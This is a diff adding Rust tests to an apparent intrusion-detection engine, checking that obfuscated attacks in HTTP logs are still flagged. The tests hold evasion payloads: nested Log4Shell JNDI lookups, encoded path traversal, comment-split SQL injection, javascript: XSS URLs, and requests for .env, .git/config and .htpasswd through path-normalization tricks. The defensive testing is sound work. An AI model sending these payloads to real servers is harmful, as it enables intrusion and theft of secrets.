@@ -591,3 +591,176 @@ fn the_readme_scenario_example_is_valid() {
         .collect();
     assert_eq!(names(&run(&mut e, &probes)), ["env_probing"]);
 }
+
+/// Evasions an attacker uses against signature lists: each payload form must still be seen.
+#[test]
+fn encoded_and_obfuscated_payloads_are_still_detected() {
+    let fires = |scenario: &str, paths: Vec<String>, ua: &str| {
+        let mut e = engine(EngineOptions::default());
+        let obs: Vec<Obs> = paths
+            .iter()
+            .map(|p| http(100, "198.51.100.9", "GET", p, 404, ua))
+            .collect();
+        let alerts = run(&mut e, &obs);
+        names(&alerts).contains(&scenario)
+    };
+    let many = |f: &dyn Fn(usize) -> String, n: usize| (0..n).map(f).collect::<Vec<_>>();
+    // Log4Shell with lookup prefixes no list names (k8s, main, …) and a lookup inside the word.
+    for p in [
+        "/?x=${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://x/a}",
+        "/?x=${j${lower:n}di:ldap://x/a}",
+        "/?x=%24%7B%24%7Bmain%3Ax%3A-j%7Dndi%3Aldap%3A%2F%2Fx%7D",
+    ] {
+        assert!(
+            fires("http_log4j_jndi", vec![p.into()], "Mozilla/5.0"),
+            "{p}"
+        );
+    }
+    assert!(fires(
+        "http_log4j_jndi",
+        vec!["/".into()],
+        "${${k8s:k5:-J}ndi:ldap://x}"
+    ));
+    // Path traversal: overlong UTF-8, IIS %u escapes, full-width dots and slashes (nginx logs non-ASCII
+    // bytes as \xHH), raw full-width in a JSON log.
+    let trav: [&dyn Fn(usize) -> String; 4] = [
+        &|i| format!("/..%c0%af..%c0%afetc/x{i}"),
+        &|i| format!("/%u002e%u002e%u2215%u002e%u002e%u2215secret{i}"),
+        &|i| format!("/\\xEF\\xBC\\x8E\\xEF\\xBC\\x8E\\xEF\\xBC\\x8Fsecret{i}"),
+        &|i| format!("/\u{FF0E}\u{FF0E}\u{FF0F}secret{i}"),
+    ];
+    for f in trav {
+        let paths = many(f, 5);
+        assert!(
+            fires("http_path_traversal", paths.clone(), "Mozilla/5.0"),
+            "{paths:?}"
+        );
+    }
+    // SQLi: UNION SELECT separated by comments, tabs, parentheses, MySQL version comments.
+    let sqli: [&dyn Fn(usize) -> String; 4] = [
+        &|i| format!("/item?id=1/**/union/**/select/**/{i},2"),
+        &|i| format!("/item?id=1%09UNION%09SELECT%09{i}"),
+        &|i| format!("/item?id=1+union(select+{i})"),
+        &|i| format!("/item?id={i}+/*!50000union*/+/*!50000select*/+1"),
+    ];
+    // XSS: a javascript: URL with the tabs or newlines browsers ignore inside the scheme.
+    let xss: [&dyn Fn(usize) -> String; 2] =
+        [&|i| format!("/go?u=java%09script:alert({i})"), &|i| {
+            format!("/go?u=j%0Aava%0Dscript:prompt({i})")
+        }];
+    for f in xss {
+        let paths = many(f, 8);
+        assert!(
+            fires("http_xss_probing", paths.clone(), "Mozilla/5.0"),
+            "{paths:?}"
+        );
+    }
+    for f in sqli {
+        let paths = many(f, 12);
+        assert!(
+            fires("http_sqli_probing", paths.clone(), "Mozilla/5.0"),
+            "{paths:?}"
+        );
+    }
+}
+
+/// A busy site's benign traffic that looks like the signatures' words must not trip them.
+#[test]
+fn benign_look_alikes_do_not_fire_signature_scenarios() {
+    let mut e = engine(EngineOptions::default());
+    let mut obs = Vec::new();
+    for i in 0..40 {
+        for p in [
+            format!("/search?q=how+to+select+union+members+{i}"),
+            format!("/search?q=i+%3C3+you+{i}"),
+            format!("/search?q=..%2F+means+parent+dir+{i}"),
+            format!("/forum?q=select+*+from+table+tutorial+{i}"),
+            format!("/search?q=%EF%BC%A1%EF%BC%A2%EF%BC%A3+{i}"),
+            format!("/api/items/{i}?fields=id,name&sort=-created"),
+        ] {
+            obs.push(http(100 + i, "203.0.113.7", "GET", &p, 200, "Mozilla/5.0"));
+        }
+    }
+    let alerts = run(&mut e, &obs);
+    for a in &alerts {
+        assert!(
+            !matches!(
+                a.scenario.as_str(),
+                "http_sqli_probing" | "http_xss_probing" | "http_log4j_jndi"
+            ),
+            "{}",
+            a.scenario
+        );
+    }
+}
+
+#[test]
+fn an_empty_needle_is_an_error_not_a_match_everything() {
+    for op in ["contains", "starts_with", "ends_with", "words", "regex"] {
+        let yaml = format!(
+            "- name: mine\n  counting: {{ type: trigger }}\n  severity: low\n  filter:\n    kind: [http_request]\n    match: [{{ field: path, {op}: [\"/x\", \"\"] }}]\n"
+        );
+        let errs = parse_scenarios("mine.yaml", &yaml).unwrap_err();
+        let text = errs
+            .iter()
+            .map(|e| e.to_string())
+            .collect::<Vec<_>>()
+            .join("\n");
+        assert!(
+            text.contains("mine.yaml")
+                && text.contains(&format!("filter.match[0].{op}` has an empty entry")),
+            "{op}: {text}"
+        );
+    }
+    // `equals: [""]` is meaningful (an empty query) and stays valid.
+    let yaml = "- name: mine\n  counting: { type: trigger }\n  severity: low\n  filter:\n    kind: [http_request]\n    match: [{ field: path, part: query, equals: [\"\"] }]\n";
+    assert!(parse_scenarios("mine.yaml", yaml).is_ok());
+}
+
+/// Sensitive files asked for with paths the server normalizes (`//`, `/./`, `;param`, `%00`).
+#[test]
+fn sensitive_files_behind_path_normalization_are_detected() {
+    let forms: [[&str; 5]; 4] = [
+        [
+            "//.env",
+            "/.git//config",
+            "//backup.sql",
+            "//.htpasswd",
+            "//wp-config.php.bak",
+        ],
+        [
+            "/./.env",
+            "/.git/./config",
+            "/x/.git/./index",
+            "/.git/logs//HEAD",
+            "/y/./.htpasswd",
+        ],
+        [
+            "/.env;x",
+            "/.git/config;a",
+            "/backup.sql;b",
+            "/.htpasswd;c",
+            "/wp-config.php.bak;d",
+        ],
+        [
+            "/.env%00",
+            "/.git/config%00.jpg",
+            "/backup.sql%00",
+            "/.htpasswd%00.png",
+            "/wp-config.php.bak%00",
+        ],
+    ];
+    for paths in forms {
+        let mut e = engine(EngineOptions::default());
+        let obs: Vec<Obs> = paths
+            .iter()
+            .map(|p| http(100, "198.51.100.9", "GET", p, 404, "Mozilla/5.0"))
+            .collect();
+        let alerts = run(&mut e, &obs);
+        assert!(
+            names(&alerts).contains(&"http_sensitive_files"),
+            "{paths:?}: {:?}",
+            names(&alerts)
+        );
+    }
+}
